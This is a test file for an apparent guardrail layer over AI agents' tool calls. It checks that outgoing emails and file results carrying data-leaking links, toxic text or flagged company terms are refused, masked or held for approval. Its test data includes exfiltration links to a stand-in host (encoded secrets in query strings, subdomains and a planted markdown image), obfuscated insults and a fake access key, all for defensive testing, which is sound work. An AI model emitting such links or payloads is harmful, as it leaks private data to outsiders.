/**
 * What agents say to others (D-4) through the front door: insults, links that carry data out and what the company's own rules name are refused, shown to a person first, or
 * told to policies; links that would carry data out of a result are taken out of it; and what a program says about tools of its own is looked at as well.
 */
import { appendFileSync, cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Actions } from '@atf/sdk/actions';
import type { Client } from '@modelcontextprotocol/client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { approve, call, Product, root, type Signed, until } from './product.ts';

const secretWords = 'the board met in secret and decided to sell the northern plant';
const encoded = Buffer.from(secretWords).toString('base64url');
const drain = `https://collect.example.net/c?d=${encoded}`;
const key = 'AKIAQYLPMN5HHHFPZAM2';

const folder = mkdtempSync(join(tmpdir(), 'atf-output-'));
let product: Product;
let approver: Signed;
let office: Client;

const letter = (body: string) => ({ to: 'amara.okafor@example.com', subject: 'Your order', body });
const send = (body: string, by = office) => call(by, 'send_email', letter(body));

async function records(actionId: string, type: string) {
  const operator = await product.operator();
  return until(`${type} of ${actionId}`, async () => {
    const shown = await operator.call('actions.show', { params: { id: actionId } }).catch(() => undefined);
    const entries = shown?.records.map(
      ({ entry }) => JSON.parse(entry) as { type: string; body: Record<string, unknown> },
    );
    const found = entries?.find((entry) => entry.type === type);
    return found === undefined ? undefined : { body: found.body, argsText: shown?.argsText ?? '' };
  });
}

beforeAll(async () => {
  cpSync(join(root, 'policies'), folder, { recursive: true });
  appendFileSync(
    join(folder, 'settings.yaml'),
    `
# What carries data out often reads like an order as well, and would be withheld as a whole.
injection: { withheld: [] }
output:
  links: { hosts: [share.example.com], sent: block }
  rules:
    - { name: promises, words: [guaranteed refund, we promise], does: review, label: promise }
    - { name: projects, pattern: 'project (?:aurora|borealis)', does: label, label: internal-project }
    - { name: juniors, words: [escalation desk], does: block, levels: [junior] }
`,
  );
  writeFileSync(
    join(folder, 'projects.cedar'),
    `@id("own.projects")
@requirement("D-4")
forbid (principal, action == ATF::Action::"send", resource)
when { context has dataLabels && context.dataLabels.contains("internal-project") };
`,
  );
  product = await Product.start({ args: ['--policies', folder] });
  const sandbox = join(product.dataDir, 'sandbox');
  writeFileSync(join(sandbox, 'minutes.txt'), `Minutes.\n${secretWords}\n`);
  writeFileSync(
    join(sandbox, 'page.md'),
    `![status](https://collect.example.net/p.png?d={{answer}}) and [more](${drain}), see https://shop.example/orders/1`,
  );
  approver = await product.signIn('paula.reyes@example.com');
  office = await (await product.agent('principal-operations')).mcp('back-office');
}, 120_000);
afterAll(async () => {
  await product.remove();
  rmSync(folder, { recursive: true, force: true });
});

describe('what a call sends', () => {
  it.each([
    ['an insult', 'You are a stupid bitch and nobody wants you here.'],
    ['an insult between invisible characters', [...'You are a stupid bitch'].join('\u200b')],
    [
      'an encoded insult',
      Buffer.from('You are a stupid bitch and nobody wants you here.').toString('base64'),
    ],
    ['text in a link', `See ${drain}`],
    ['text in an image', `<img src="//collect.example.net/p.gif?${encoded}">`],
    ['text in a link that is hidden', `See ${drain.replace('https:', 'https&#58;')}`],
    ['text in the name of a host', 'See http://JZXXOIDPOUQG6ZRAORUGS4Y.collect.example.net/'],
    ['a long run that nobody can read', 'https://collect.example.net/q8ZkP0xw93TmRvB7yLdWc2NfHs5JgAe1uXo4'],
  ])('does not leave with %s', async (_what, body) => {
    const answer = await send(body);
    expect(answer).toMatchObject({
      isError: true,
      atf: { code: 'data.output_refused', requirementIds: ['D-4'] },
    });
    expect(answer.text).not.toContain('collect.example');
  });

  it('leaves with ordinary words and links', async () => {
    const body = `Your order: https://shop.example/orders/O-5001?tab=items. Shared: https://share.example.com/?d=${encoded}`;
    expect(await send(body)).toMatchObject({ isError: false });
  });

  it('does not leave with what the session has read, in a link', async () => {
    const link = `https://shop.example/find?q=${secretWords.replaceAll(' ', '+')}`;
    expect(await send(`Look: ${link}`)).toMatchObject({ isError: false });
    const agent = await product.agent('principal-operations');
    const path = join(product.dataDir, 'sandbox', 'minutes.txt');
    expect(await call(await agent.mcp('files'), 'read_text_file', { path })).toMatchObject({
      isError: false,
    });
    const answer = await send(`Look: ${link}`, await agent.mcp('back-office'));
    expect(answer).toMatchObject({ isError: true, atf: { code: 'data.output_refused' } });
  });

  it.each([
    ['what is near an insult', 'You stupid idiot, go to hell.', 'toxic'],
    ['what a rule of the company names', 'A GUARANTEED refund is on its way.', 'promise'],
  ])('leaves with %s only after a person has looked at it', async (_what, body, label) => {
    const waiting = await send(body);
    expect(waiting).toMatchObject({
      isError: true,
      atf: { code: 'maturity.approval_required', outcome: 'waiting' },
    });
    const id = waiting.atf.approvalId ?? '';
    const shown = await approver.client.call('approvals.show', { params: { id } });
    expect(JSON.stringify(shown)).toContain(`look at what it says: ${label}`);
    await approve(approver, id);
    const released = await until('the approved call to run', async () => {
      const answer = await send(body);
      return answer.isError ? undefined : answer;
    });
    const { body: record } = await records(released.atf.actionId ?? '', 'action.intent');
    expect(record).toMatchObject({
      facts: {
        detectors: expect.arrayContaining([expect.objectContaining({ verdict: 'review', labels: [label] })]),
      },
      checks: expect.arrayContaining([expect.objectContaining({ name: 'review_output', verdict: 'pass' })]),
    });
  });

  it('is told to policies by its labels', async () => {
    const answer = await send('About Project Aurora.');
    expect(answer).toMatchObject({ isError: true, atf: { code: 'policy.forbidden' } });
    expect(answer.text).toContain('own.projects');
  });
});

it('a call that only reads does not carry text to a server in a link', async () => {
  const files = await (await product.agent('intern-analyst')).mcp('files');
  const answer = await call(files, 'read_text_file', { path: drain });
  expect(answer).toMatchObject({ isError: true, atf: { code: 'data.output_refused' } });
});

describe('what a result holds', () => {
  const read = async (agent: string) => {
    const files = await (await product.agent(agent)).mcp('files');
    return await call(files, 'read_text_file', { path: join(product.dataDir, 'sandbox', 'page.md') });
  };

  it('loses links and images that carry data, by level', async () => {
    const rest = 'see https://shop.example/orders/1';
    expect((await read('intern-analyst')).text).toBe(`![status]([LINK]) and [more]([LINK]), ${rest}`);
    const { text, atf } = await read('principal-operations');
    expect(text).toBe(`![status]([LINK]) and [more](${drain}), ${rest}`);
    const { body } = await records(atf.actionId ?? '', 'action.outcome');
    expect(body).toMatchObject({
      // As text and as structure.
      data: { labels: expect.arrayContaining(['exfiltration']), found: { 'output.link': 4 }, masked: 2 },
    });
  });
});

describe('a program that runs its own tools', () => {
  const desk = async () => {
    const { fetch } = await product.agent('senior-support');
    return new Actions({ fetch, server: 'order-desk' });
  };

  it('is not let through with text in a link', async () => {
    const link = `https://e.co/?d=${Buffer.from('forty two is').toString('base64')}`;
    const asked = (await desk()).verifyAction({ tool: 'cancel_order', arguments: { order_id: link } });
    await expect(asked).rejects.toMatchObject({ refusal: { code: 'data.output_refused' } });
  });

  it('has what it states and reports masked before it is kept, and labelled', async () => {
    let actionId = '';
    const cancel = (await desk()).guard({
      name: 'cancel_order',
      run: ({ order_id }: { order_id: string }, run) => {
        ({ actionId } = run);
        return { order_id, state: 'cancelled', note: `${key}: you are a stupid bitch` };
      },
    });
    await cancel({ order_id: 'O-77' }, { reason: `the customer wrote ${key}` });
    const { argsText } = await records(actionId, 'action.intent');
    expect(JSON.parse(argsText)).toMatchObject({ stated: { reason: 'the customer wrote [SECRET]' } });
    const { body } = await records(actionId, 'action.outcome');
    expect(body).toMatchObject({ data: { labels: expect.arrayContaining(['secret', 'toxic']) } });
    const operator = await product.operator();
    const shown = await operator.call('actions.show', { params: { id: actionId } });
    expect(JSON.stringify(shown)).not.toContain(key);
  });
});
